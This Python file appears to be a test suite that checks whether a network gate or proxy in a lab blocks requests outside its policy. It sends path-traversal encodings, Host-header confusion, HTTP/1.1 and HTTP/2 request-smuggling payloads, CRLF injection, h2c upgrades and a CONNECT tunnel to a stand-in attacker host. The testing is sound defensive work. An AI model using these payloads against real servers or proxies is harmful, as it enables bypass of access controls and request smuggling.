"""Requests: another path, method or host than permitted, and requests that two readers understand differently.

Permitted are `GET /open/**` on allowed.test:80 (and `POST` on port 8080, where the server behind is a careless one) and
`POST /v1/messages` on api.test, inside TLS. The marker stands only in what is not permitted.
"""

import socket
import ssl
import struct
import time

from probe import Held, probe, request

PATH = "a request for another path arrives"
METHOD = "a request with another method arrives"
HOST = "a request for another host arrives"
SECOND = "a second request, which was never judged, is answered"
TUNNEL = "bytes that are no request arrive"
CLOSED = b"GET /closed/x HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n"


def judged(answer):
    """An answer of the destination is the way out; one of the gate is none."""
    if b"answer from" not in answer:
        raise Held(answer.split(b"\r\n")[0].decode(errors="replace")[:100])


def ask(line, *fields, host="Host: allowed.test", to="allowed.test", port=80):
    """One request, as it stands."""
    head = "\r\n".join([line, *([host] if host else []), *fields, "", ""])
    judged(request(to, port, head.encode("latin-1"), wait=0.3))


def get(path, **more):
    ask(f"GET {path} HTTP/1.1", "Connection: close", **more)


def smuggled(*parts, port=80):
    """A permitted request with another one inside, which is for one reader a body and for the next a request."""
    answer = request("allowed.test", port, b"".join(p if isinstance(p, bytes) else p.encode() for p in parts), wait=0.3)
    if b" to GET /closed/" not in answer:
        raise Held(answer.split(b"\r\n")[0].decode(errors="replace")[:100])


# Paths and methods.


@probe(PATH)
def other_path(lab):
    """A path that no rule names."""
    get(f"/closed/{lab.mark()}")


@probe(PATH)
def path_that_begins_alike(lab):
    """/opened begins like /open, though not at a segment."""
    get(f"/open{lab.mark()}/x")


@probe(PATH)
def path_in_capitals(lab):
    """The first segment in capital letters, which some servers do not tell apart."""
    get(f"/OPEN/{lab.mark()}")


@probe(METHOD)
def other_method(lab):
    """A method that no rule names."""
    ask(f"POST /open/{lab.mark()} HTTP/1.1", "Content-Length: 0", "Connection: close")


@probe(METHOD)
def method_in_small_letters(lab):
    """The method in small letters, which are another method."""
    ask(f"get /open/{lab.mark()} HTTP/1.1", "Connection: close")


@probe(METHOD)
def method_that_begins_alike(lab):
    """GETX begins like GET."""
    ask(f"GETX /open/{lab.mark()} HTTP/1.1", "Connection: close")


@probe(METHOD)
def trace(lab):
    """TRACE, which returns what it was sent."""
    ask(f"TRACE /open/{lab.mark()} HTTP/1.1", "Connection: close")


@probe(METHOD)
def options_of_the_server(lab):
    """OPTIONS with an asterisk, which has no path."""
    ask("OPTIONS * HTTP/1.1", f"x: {lab.mark()}", "Connection: close")


@probe(PATH)
def dot_segments(lab):
    """Out of the permitted path by two dots."""
    get(f"/open/../closed/{lab.mark()}")


@probe(PATH)
def dot_segments_into_the_path(lab):
    """Another path that two dots lead back into the permitted one."""
    get(f"/closed/{lab.mark()}/../../open/x")


@probe(PATH)
def escaped_dots(lab):
    """Two dots as %2e%2e."""
    get(f"/open/%2e%2e/closed/{lab.mark()}")


@probe(PATH)
def half_escaped_dots(lab):
    """Two dots of which one is escaped, in capitals."""
    get(f"/open/.%2E/closed/{lab.mark()}")


@probe(PATH)
def escaped_slash_after_dots(lab):
    """..%2f: one segment for the gate, and a way up for a server that unescapes first."""
    get(f"/open/..%2fclosed/{lab.mark()}")


@probe(PATH)
def escaped_dots_and_slash(lab):
    """%2e%2e%2f: dots and slash are escaped."""
    get(f"/open/%2e%2e%2fclosed/{lab.mark()}")


@probe(PATH)
def escaped_slash_before_dots(lab):
    """x%2f..%2f..: a way up in the middle of one segment."""
    get(f"/open/x%2f..%2f..%2fclosed/{lab.mark()}")


@probe(PATH)
def double_escapes(lab):
    """%252e%252e, which the second unescaping turns into dots."""
    get(f"/open/%252e%252e/closed/{lab.mark()}")


@probe(PATH)
def backslash(lab):
    """A backslash in the place of the slash."""
    get(f"/open/..\\closed/{lab.mark()}")


@probe(PATH)
def escaped_backslash(lab):
    """..%5c: an escaped backslash after the dots."""
    get(f"/open/..%5cclosed/{lab.mark()}")


@probe(PATH)
def dots_with_a_parameter(lab):
    """..;x: dots with a path parameter, which some servers cut off before they resolve the dots."""
    get(f"/open/..;x/closed/{lab.mark()}")


@probe(PATH)
def dots_with_an_escaped_parameter(lab):
    """..%3bx: the same with the semicolon escaped."""
    get(f"/open/..%3bx/closed/{lab.mark()}")


@probe(PATH)
def overlong_dots(lab):
    """Dots as overlong UTF-8 (%c0%ae)."""
    get(f"/open/%c0%ae%c0%ae/closed/{lab.mark()}")


@probe(PATH)
def escapes_of_unicode(lab):
    """%u002e%u002e: escapes that no standard knows and some servers read."""
    get(f"/open/%u002e%u002e/closed/{lab.mark()}")


@probe(PATH)
def white_space_after_dots(lab):
    """..%20 and ..%09: white space that some servers cut off."""
    get(f"/open/..%20/closed/{lab.mark()}")


@probe(PATH)
def nul_after_dots(lab):
    """..%00: a reader of C strings sees the dots only."""
    get(f"/open/..%00/closed/{lab.mark()}")


@probe(PATH)
def line_break_in_the_path(lab):
    """%0d%0a in the path: a server that unescapes before it writes starts a new line there."""
    get(f"/open/x%20HTTP/1.1%0d%0aX:%20y%0d%0a%0d%0aGET%20/closed/{lab.mark()}")


@probe(PATH)
def escaped_letter(lab):
    """The first segment with a letter escaped, which is another spelling of another path."""
    get(f"/%63losed/{lab.mark()}")


@probe(PATH)
def empty_segment_first(lab):
    """//open: for one reader a host, for the next an empty segment."""
    get(f"//open/{lab.mark()}")


@probe(HOST)
def host_in_the_path(lab):
    """//host/open: a path that a reader of URLs takes for a host."""
    get(f"//{lab.mark()}.test/open/x")


@probe(PATH)
def fragment_in_the_path(lab):
    """A fragment, behind which one reader stops."""
    get(f"/closed/{lab.mark()}#/../../open/x")


@probe(PATH)
def query_before_the_path(lab):
    """A permitted path that is only part of a query."""
    get(f"/closed/{lab.mark()}?/open/x")


@probe(PATH)
def parameter_before_the_path(lab):
    """/;x/open: a parameter on an empty segment."""
    get(f"/;/../closed;/open/{lab.mark()}")


@probe(PATH)
def path_that_is_no_text(lab):
    """A path with bytes that are no UTF-8, which a careless reader leaves out."""
    get(f"/open/.\xff./closed/{lab.mark()}")


@probe(PATH)
def path_without_a_slash(lab):
    """A path that does not begin with a slash."""
    get(f"open/../closed/{lab.mark()}")


@probe(PATH)
def two_paths(lab):
    """Two paths in the request line, of which each reader takes its own."""
    get(f"/open/x /closed/{lab.mark()}")


@probe(PATH)
def tab_in_the_line(lab):
    """A tab between path and version, and another path behind it."""
    get(f"/open/x\t/closed/{lab.mark()}")


@probe(PATH)
def bare_return_in_the_line(lab):
    """A carriage return alone in the request line, which some readers take for its end."""
    get(f"/open/x HTTP/1.1\rGET /closed/{lab.mark()}")


@probe(PATH)
def space_before_the_line(lab):
    """White space before the method."""
    ask(f" GET /closed/{lab.mark()} HTTP/1.1", "Connection: close")


@probe(PATH)
def version_0_9(lab):
    """A request of HTTP/0.9: a line without a version and without fields."""
    answer = request("allowed.test", 80, f"GET /closed/{lab.mark()}\r\n", wait=0.3)
    judged(answer)


@probe(PATH)
def version_of_the_future(lab):
    """A request of a version that nobody knows."""
    ask(f"GET /closed/{lab.mark()} HTTP/3.7", "Connection: close")


@probe(PATH)
def permitted_path_in_a_field(lab):
    """Fields by which servers replace the path (X-Original-URL), on a path that is not permitted."""
    ask(f"GET /closed/{lab.mark()} HTTP/1.1", "X-Original-URL: /open/x", "X-HTTP-Method-Override: GET")


# Hosts.


@probe(HOST)
def other_host(lab):
    """A Host that is not the connection's."""
    get("/open/x", host=f"Host: {lab.mark()}.test")


@probe(HOST)
def two_hosts(lab):
    """Two Host fields, the permitted one first."""
    ask("GET /open/x HTTP/1.1", f"Host: {lab.mark()}.test", "Connection: close")


@probe(HOST)
def two_hosts_turned_round(lab):
    """Two Host fields, the permitted one last."""
    ask("GET /open/x HTTP/1.1", "Host: allowed.test", "Connection: close", host=f"Host: {lab.mark()}.test")


@probe(HOST)
def two_hosts_in_one_field(lab):
    """Two hosts in one field, with a comma."""
    get("/open/x", host=f"Host: allowed.test, {lab.mark()}.test")


@probe(HOST)
def host_with_a_user(lab):
    """A user before the host, who has the permitted name."""
    get("/open/x", host=f"Host: allowed.test@{lab.mark()}.test")


@probe(HOST)
def host_with_a_path(lab):
    """A path behind the host."""
    get("/open/x", host=f"Host: allowed.test/{lab.mark()}")


@probe(HOST)
def host_with_another_port(lab):
    """Another port in the Host, which a proxy may dial."""
    get(f"/open/{lab.mark()}", host="Host: allowed.test:7000")


@probe(HOST)
def host_on_a_second_line(lab):
    """A folded Host field, whose second line is another host."""
    get("/open/x", host=f"Host: allowed.test\r\n {lab.mark()}.test")


@probe(HOST)
def host_with_a_space_in_the_name(lab):
    """White space before the colon: another field for one reader, the Host for the next."""
    ask("GET /open/x HTTP/1.1", f"Host : {lab.mark()}.test", "Connection: close")


@probe(HOST)
def host_behind_a_bare_line_feed(lab):
    """A second Host behind a line feed alone, inside another field."""
    ask("GET /open/x HTTP/1.1", f"X: y\nHost: {lab.mark()}.test", "Connection: close")


@probe(HOST)
def host_behind_a_bare_return(lab):
    """A second Host behind a carriage return alone."""
    ask("GET /open/x HTTP/1.1", f"X: y\rHost: {lab.mark()}.test", "Connection: close")


@probe(HOST)
def host_with_nul(lab):
    """NUL behind the permitted name in the Host."""
    get("/open/x", host=f"Host: allowed.test\0.{lab.mark()}.test")


@probe(HOST)
def no_host(lab):
    """A request of HTTP/1.0 without a Host, for a path that is not permitted."""
    ask(f"GET /closed/{lab.mark()} HTTP/1.0", host=None)


@probe(HOST)
def whole_address_of_another_host(lab):
    """The absolute form with another host, and a permitted Host."""
    get(f"http://{lab.mark()}.test/open/x")


@probe(HOST)
def whole_address_with_a_user(lab):
    """The absolute form with a user who has the permitted name."""
    get(f"http://allowed.test@{lab.mark()}.test/open/x")


@probe(HOST)
def whole_address_with_a_backslash(lab):
    """The absolute form with a backslash, at which one reader ends the host and the next does not."""
    get(f"http://{lab.mark()}.test\\@allowed.test/open/x")


@probe(HOST)
def whole_address_and_another_host(lab):
    """The absolute form with the permitted host, and another Host."""
    get("http://allowed.test/open/x", host=f"Host: {lab.mark()}.test")


@probe(HOST)
def whole_address_of_another_scheme(lab):
    """The absolute form with another scheme."""
    get(f"ftp://allowed.test/open/{lab.mark()}")


@probe(HOST)
def gates_own_page(lab):
    """The page that a gate shows inside is asked for somebody else's, as if it were a proxy."""
    get(f"http://evil.test/{lab.mark()}", host="Host: evil.test", to="policy.internal")


@probe(HOST)
def host_of_the_first_request(lab):
    """The first request names the permitted host, the next on the same connection another."""
    first = b"GET /open/x HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
    second = f"GET /open/x HTTP/1.1\r\nHost: {lab.mark()}.test\r\nConnection: close\r\n\r\n"
    if request("allowed.test", 80, first + second.encode(), wait=0.3).count(b"answer from") < 2:
        raise Held("no second answer")


# Second requests.


@probe(SECOND)
def pipelined(lab):
    """A second request at once behind the first one, which is permitted."""
    smuggled("GET /open/x HTTP/1.1\r\nHost: allowed.test\r\n\r\n", CLOSED.replace(b"/x", f"/{lab.mark()}".encode()))


@probe(SECOND)
def kept_alive(lab):
    """A second request on a connection that is kept, once the first one is answered."""
    with socket.create_connection(("allowed.test", 80), 2) as one:
        one.settimeout(0.3)
        one.sendall(b"GET /open/x HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
        time.sleep(0.1)
        one.recv(4096)
        one.sendall(CLOSED.replace(b"/x", f"/{lab.mark()}".encode()))
        judged(one.recv(4096))


@probe(SECOND)
def kept_alive_in_version_1_0(lab):
    """The same in HTTP/1.0, with keep-alive."""
    with socket.create_connection(("allowed.test", 80), 2) as one:
        one.settimeout(0.3)
        one.sendall(b"GET /open/x HTTP/1.0\r\nHost: allowed.test\r\nConnection: keep-alive\r\n\r\n")
        time.sleep(0.1)
        one.recv(4096)
        one.sendall(CLOSED.replace(b"/x", f"/{lab.mark()}".encode()))
        judged(one.recv(4096))


@probe(SECOND)
def two_lengths(lab):
    """Two lengths: the first one covers the second request, the last one does not."""
    smuggled("GET /open/x HTTP/1.1\r\nHost: allowed.test\r\n",
             f"Content-Length: {len(CLOSED)}\r\nContent-Length: 0\r\n\r\n", CLOSED)


@probe(SECOND)
def two_lengths_in_one_field(lab):
    """Two lengths in one field, with a comma."""
    smuggled("GET /open/x HTTP/1.1\r\nHost: allowed.test\r\n", f"Content-Length: {len(CLOSED)}, 0\r\n\r\n", CLOSED)


@probe(SECOND)
def length_with_a_sign(lab):
    """A length with a sign, which one reader leaves out and the next reads."""
    smuggled("GET /open/x HTTP/1.1\r\nHost: allowed.test\r\n",
             f"Content-Length: {len(CLOSED)}\r\nContent-Length: +0\r\n\r\n", CLOSED)


@probe(SECOND)
def length_and_chunks(lab):
    """A length and chunks; the server goes by the length."""
    body = f"{len(CLOSED):x}\r\n".encode()
    smuggled("GET /open/x HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n",
             f"Content-Length: {len(body)}\r\n\r\n", body, CLOSED, "\r\n0\r\n\r\n")


def with_chunks(field, line="POST /open/x HTTP/1.1", fields=None):
    """A body that ends at once for a server that sees chunks, and holds a second request for one that sees a length."""
    body = b"0\r\n\r\n" + CLOSED
    fields = f"Content-Length: {len(body)}\r\n" if fields is None else fields
    smuggled(f"{line}\r\nHost: allowed.test\r\n{fields}", field, "\r\n\r\n", body, port=8080)


@probe(SECOND)
def chunks_and_length(lab):
    """A length and chunks; the server goes by the chunks."""
    with_chunks("Transfer-Encoding: chunked")


@probe(SECOND)
def coding_that_looks_like_chunks(lab):
    """A transfer coding that only looks like chunked."""
    with_chunks("Transfer-Encoding: xchunked")


@probe(SECOND)
def coding_with_a_space_in_the_name(lab):
    """White space between the name of Transfer-Encoding and its colon."""
    with_chunks("Transfer-Encoding : chunked")


@probe(SECOND)
def coding_with_a_space_before(lab):
    """White space before the name of Transfer-Encoding, as if the field above went on."""
    with_chunks("X: y\r\n Transfer-Encoding: chunked")


@probe(SECOND)
def coding_with_a_vertical_tab(lab):
    """A vertical tab before the coding, which some readers take for white space."""
    with_chunks("Transfer-Encoding: \x0bchunked")


@probe(SECOND)
def coding_on_a_second_line(lab):
    """A folded Transfer-Encoding field."""
    with_chunks("Transfer-Encoding:\r\n chunked")


@probe(SECOND)
def coding_behind_another(lab):
    """Two codings, chunked not being the last."""
    with_chunks("Transfer-Encoding: chunked, identity")


@probe(SECOND)
def two_codings(lab):
    """Two Transfer-Encoding fields, of which one says identity."""
    with_chunks("Transfer-Encoding: identity\r\nTransfer-Encoding: chunked")


@probe(SECOND)
def coding_in_quotes(lab):
    """The coding in quotation marks."""
    with_chunks('Transfer-Encoding: "chunked"')


@probe(SECOND)
def coding_with_a_parameter(lab):
    """The coding with a parameter, which it does not have."""
    with_chunks("Transfer-Encoding: chunked;q=1")


@probe(SECOND)
def coding_behind_a_bare_line_feed(lab):
    """Transfer-Encoding behind a line feed alone, inside another field."""
    with_chunks("X: y\nTransfer-Encoding: chunked")


@probe(SECOND)
def coding_behind_nul(lab):
    """Transfer-Encoding behind NUL inside another field."""
    with_chunks("X: y\0\r\nTransfer\0-Encoding: chunked")


@probe(SECOND)
def coding_in_version_1_0(lab):
    """Chunks in HTTP/1.0, which does not have them."""
    with_chunks("Transfer-Encoding: chunked", line="POST /open/x HTTP/1.0")


@probe(SECOND)
def coding_named_by_connection(lab):
    """Connection names Content-Length: a proxy that takes it out leaves a body that nobody counts."""
    smuggled("GET /open/x HTTP/1.1\r\nHost: allowed.test\r\nConnection: Content-Length\r\n",
             f"Content-Length: {len(CLOSED)}\r\nContent-Length: 0\r\n\r\n", CLOSED)


def in_chunks(*chunks):
    smuggled("POST /open/x HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n", *chunks, CLOSED,
             "\r\n0\r\n\r\n", port=8080)


@probe(SECOND)
def chunk_too_large_for_a_word(lab):
    """The size of a chunk does not fit into 32 bits; a careless reader sees 0."""
    in_chunks("100000000\r\n\r\n")


@probe(SECOND)
def chunk_too_large_for_two_words(lab):
    """The size of a chunk does not fit into 64 bits; a careless reader sees 0."""
    in_chunks("10000000000000000\r\n\r\n")


@probe(SECOND)
def chunk_with_a_sign(lab):
    """The size of a chunk with a sign, or with 0x before it."""
    in_chunks("0x0\r\n\r\n")


@probe(SECOND)
def chunk_extension_with_a_line_feed(lab):
    """A chunk extension with a line feed alone: one reader ends the line there, the next one does not."""
    in_chunks("0;x\n\r\n")


@probe(SECOND)
def chunk_lines_with_a_line_feed(lab):
    """Lines of chunks that end in a line feed alone, so that two readers count differently."""
    smuggled("POST /open/x HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: chunked\r\n\r\n",
             "0\n\n", CLOSED, port=8080)


@probe(SECOND)
def end_of_the_head_by_line_feeds(lab):
    """A head whose lines end in a line feed alone."""
    smuggled(f"GET /open/x HTTP/1.1\nHost: allowed.test\nContent-Length: {len(CLOSED)}\n\n", CLOSED)


@probe(SECOND)
def body_of_an_expectation(lab):
    """Expect: 100-continue, and instead of the body another request."""
    smuggled("GET /open/x HTTP/1.1\r\nHost: allowed.test\r\nExpect: 100-continue\r\n", "Content-Length: 0\r\n\r\n",
             CLOSED.replace(b"/x", f"/{lab.mark()}".encode()))


@probe(SECOND)
def huge_head(lab):
    """A head of a megabyte: a reader that gives up may let the rest pass."""
    ask(f"GET /closed/{lab.mark()} HTTP/1.1", *[f"X-{n}: " + "y" * 8000 for n in range(120)], "Connection: close")


@probe(SECOND)
def thousands_of_fields(lab):
    """Thousands of fields before the Host that counts."""
    ask("GET /open/x HTTP/1.1", *[f"X{n}: y" for n in range(3000)], f"Host: {lab.mark()}.test", "Connection: close")


@probe(SECOND)
def unfinished_head(lab):
    """A head that never ends: what was kept may be passed on when the sender's side ends."""
    with socket.create_connection(("allowed.test", 80), 2) as one:
        one.settimeout(1)
        one.sendall(f"GET /closed/{lab.mark()} HTTP/1.1\r\nHost: allowed.test\r\n".encode())
        one.shutdown(socket.SHUT_WR)
        judged(one.recv(4096))


# Other protocols on the connection.


@probe(TUNNEL)
def connect_method(lab):
    """CONNECT to the attacker, on a connection to a permitted host."""
    target = f"{lab.evil}:4444"
    answer = request("allowed.test", 80, f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n{lab.mark()}", wait=0.3)
    judged(answer)


@probe(TUNNEL)
def upgrade_to_http_2(lab):
    """h2c: an upgrade to HTTP/2 without TLS, and frames behind the request."""
    head = ("GET /open/x HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
            "HTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n")
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + headers(lab, path=f"/closed/{lab.mark()}")
    answer = request("allowed.test", 80, head.encode() + preface, wait=0.3)
    if answer.count(b"answer from") < 2:
        raise Held("no second answer")


@probe(TUNNEL)
def http_2_at_once(lab):
    """HTTP/2 without TLS by prior knowledge."""
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + headers(lab, path=f"/closed/{lab.mark()}")
    judged(request("allowed.test", 80, preface, wait=0.3))


@probe(TUNNEL)
def web_socket_on_another_path(lab):
    """A WebSocket on a path that is not permitted, and data behind it."""
    get(f"/closed/{lab.mark()}", host="Host: allowed.test\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==")


@probe(TUNNEL)
def another_upgrade(lab):
    """An upgrade to a protocol that is no WebSocket, and bytes behind the request at once."""
    head = "GET /open/x HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade\r\nUpgrade: plain-bytes\r\n\r\n"
    answer = request("allowed.test", 80, f"{head}{lab.mark()} and more\r\n\r\n", wait=0.3)
    if answer.count(b"answer from") < 2:
        raise Held("no second answer")


@probe(TUNNEL)
def other_bytes(lab):
    """Bytes that are no request, on a port of requests."""
    if not request("allowed.test", 80, f"SSH-2.0-{lab.mark()}\r\n\r\n".encode(), wait=0.3).startswith(b"HTTP/1.1 200"):
        raise Held("no answer of the server")


@probe(TUNNEL)
def tls_on_a_plain_port(lab):
    """A TLS hello on a port of plain requests, with data in the name."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection(("allowed.test", 80), 2) as one:
        one.settimeout(0.3)
        context.wrap_socket(one, server_hostname=f"{lab.mark()}.test").close()


# Inside TLS that the gate ends.


def inside(lab, *protocols):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    if protocols:
        context.set_alpn_protocols(protocols)
    one = context.wrap_socket(socket.create_connection(("api.test", 443), 2), server_hostname="api.test")
    one.settimeout(0.3)
    return one


def ask_inside(lab, line, host="api.test"):
    with inside(lab) as one:
        one.sendall(f"{line} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 0\r\n\r\n".encode())
        judged(one.recv(4096))


@probe(PATH)
def other_path_inside(lab):
    """A path that no rule names, inside TLS."""
    ask_inside(lab, f"POST /v1/{lab.mark()}")


@probe(PATH)
def path_below_inside(lab):
    """A path below one that is permitted by itself, inside TLS."""
    ask_inside(lab, f"POST /v1/messages/{lab.mark()}")


@probe(METHOD)
def other_method_inside(lab):
    """Another method on the permitted path, inside TLS."""
    ask_inside(lab, f"DELETE /v1/messages?{lab.mark()}")


@probe(HOST)
def other_host_inside(lab):
    """Another host inside TLS than the one that the handshake named."""
    ask_inside(lab, "POST /v1/messages", f"{lab.mark()}.test")


@probe(TUNNEL)
def other_bytes_inside(lab):
    """Bytes that are no request, inside TLS."""
    with inside(lab) as one:
        one.sendall(f"SSH-2.0-{lab.mark()}\r\n\r\n".encode())
        judged(one.recv(4096))


@probe(TUNNEL)
def other_protocol_by_name(lab):
    """ALPN names a protocol that is not HTTP, whose bytes nobody reads."""
    with inside(lab, "smtp") as one:
        one.sendall(f"EHLO {lab.mark()}\r\n\r\n".encode())
        judged(one.recv(4096))


@probe(TUNNEL)
def tls_inside_tls(lab):
    """A second handshake inside the first one, which names another host."""
    with inside(lab) as one:
        one.sendall(b"\x16\3\1\0\x20" + lab.mark().encode().ljust(32) + b"\r\n\r\n")
        judged(one.recv(4096))


# HTTP/2: frames by hand.


def frame(kind, flags, stream, data):
    return len(data).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + data


def field(name, value):
    """A field without index and without Huffman code."""
    out = b"\0"
    for text in (name, value):
        text = text if isinstance(text, bytes) else text.encode("latin-1")
        rest = len(text) - 127
        out += bytes([len(text)]) if rest < 0 else b"\x7f" + (bytes([rest]) if rest < 128 else
                                                              bytes([rest % 128 | 128, rest // 128]))
        out += text
    return out


def headers(lab, *more, method="POST", path="/v1/messages", authority="api.test", scheme="https", stream=1, flags=5):
    pseudo = [(":method", method), (":scheme", scheme), (":path", path), (":authority", authority)]
    return frame(1, flags, stream, b"".join(field(n, v) for n, v in [*pseudo, *more] if v is not None))


def ask_frames(lab, *frames, count=1):
    """Frames inside TLS. An answer with the status 200 is the way out."""
    with inside(lab, "h2") as one:
        one.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b"") + b"".join(frames))
        answer, end = b"", time.monotonic() + 0.3
        try:
            while time.monotonic() < end and answer.count(b"answer from") < count and (data := one.recv(65536)):
                answer += data
        except OSError:
            pass
    if answer.count(b"answer from") < count:
        raise Held("no answer of the destination")


@probe(PATH)
def other_path_in_a_frame(lab):
    """A path that no rule names, over HTTP/2."""
    ask_frames(lab, headers(lab, path=f"/closed/{lab.mark()}"))


@probe(HOST)
def other_authority_in_a_frame(lab):
    """Another :authority than the connection's."""
    ask_frames(lab, headers(lab, authority=f"{lab.mark()}.test"))


@probe(HOST)
def host_beside_the_authority(lab):
    """A Host field that is not the :authority."""
    ask_frames(lab, headers(lab, ("host", f"{lab.mark()}.test")))


@probe(HOST)
def user_in_the_authority(lab):
    """A user in the :authority."""
    ask_frames(lab, headers(lab, authority=f"{lab.mark()}@api.test"))


@probe(PATH)
def two_paths_in_a_frame(lab):
    """The :path twice."""
    ask_frames(lab, headers(lab, (":path", f"/closed/{lab.mark()}")))


@probe(HOST)
def two_authorities_in_a_frame(lab):
    """The :authority twice."""
    ask_frames(lab, headers(lab, (":authority", f"{lab.mark()}.test")))


@probe(PATH)
def space_in_the_path_of_a_frame(lab):
    """A space in the :path, which becomes a request line in HTTP/1.1."""
    ask_frames(lab, headers(lab, path=f"/v1/messages HTTP/1.1\r\nHost: {lab.mark()}.test\r\nX: y"))


@probe(METHOD)
def line_break_in_the_method_of_a_frame(lab):
    """A line break in the :method."""
    ask_frames(lab, headers(lab, method=f"POST /closed/{lab.mark()} HTTP/1.1\r\nX:"))


@probe(SECOND)
def line_break_in_a_field_of_a_frame(lab):
    """A line break in a field's value, behind which a second request stands."""
    ask_frames(lab, headers(lab, ("x", f"y\r\n\r\nPOST /closed/{lab.mark()} HTTP/1.1\r\nHost: api.test")))


@probe(SECOND)
def line_break_in_a_name_of_a_frame(lab):
    """A line break in a field's name."""
    ask_frames(lab, headers(lab, (f"x: y\r\nhost: {lab.mark()}.test\r\nz", "y")))


@probe(SECOND)
def length_in_a_frame(lab):
    """A content-length that is smaller than the body: in HTTP/1.1 the rest is a request."""
    body = f"POST /closed/{lab.mark()} HTTP/1.1\r\nHost: api.test\r\n\r\n".encode()
    ask_frames(lab, headers(lab, ("content-length", "0"), flags=4), frame(0, 1, 1, body))


@probe(SECOND)
def coding_in_a_frame(lab):
    """Transfer-Encoding over HTTP/2, and a body that is a chunk and a request."""
    body = f"0\r\n\r\nPOST /closed/{lab.mark()} HTTP/1.1\r\nHost: api.test\r\n\r\n".encode()
    ask_frames(lab, headers(lab, ("transfer-encoding", "chunked"), flags=4), frame(0, 1, 1, body))


@probe(TUNNEL)
def connect_in_a_frame(lab):
    """CONNECT over HTTP/2."""
    ask_frames(lab, headers(lab, method="CONNECT", path=None, scheme=None, authority=f"{lab.mark()}.test:443"))


@probe(TUNNEL)
def extended_connect_in_a_frame(lab):
    """CONNECT with :protocol, as WebSocket over HTTP/2 does it."""
    ask_frames(lab, headers(lab, (":protocol", "websocket"), method="CONNECT", path=f"/closed/{lab.mark()}"))


@probe(SECOND)
def second_stream(lab):
    """A second stream of the same connection, after one that is permitted."""
    ask_frames(lab, headers(lab), headers(lab, path=f"/closed/{lab.mark()}", stream=3), count=2)


@probe(PATH)
def pseudo_fields_in_trailers(lab):
    """Pseudo-header fields with another path in the trailers."""
    trailer = frame(1, 5, 1, field(":path", f"/closed/{lab.mark()}"))
    ask_frames(lab, headers(lab, flags=4), frame(0, 0, 1, b"x"), trailer)
    raise Held("answered, without the trailers")


@probe(PATH)
def pseudo_field_behind_a_field(lab):
    """A second :path behind ordinary fields, in a continuation frame."""
    more = frame(9, 4, 1, field("x", "y") + field(":path", f"/closed/{lab.mark()}"))
    ask_frames(lab, headers(lab, flags=1), more)


@probe(PATH)
def empty_path_in_a_frame(lab):
    """A :path that is empty or has a whole address in it."""
    ask_frames(lab, headers(lab, path=f"https://{lab.mark()}.test/v1/messages"))


@probe(PATH)
def dots_in_a_frame(lab):
    """Two dots in the :path."""
    ask_frames(lab, headers(lab, path=f"/v1/messages/../{lab.mark()}"))


@probe(METHOD)
def pushed_request(lab):
    """A PUSH_PROMISE from the client, which only servers send."""
    body = struct.pack(">I", 2) + headers(lab, path=f"/closed/{lab.mark()}")[9:]
    ask_frames(lab, headers(lab, flags=4), frame(5, 4, 1, body), frame(0, 1, 1, b""))
    raise Held("answered, without the promise")
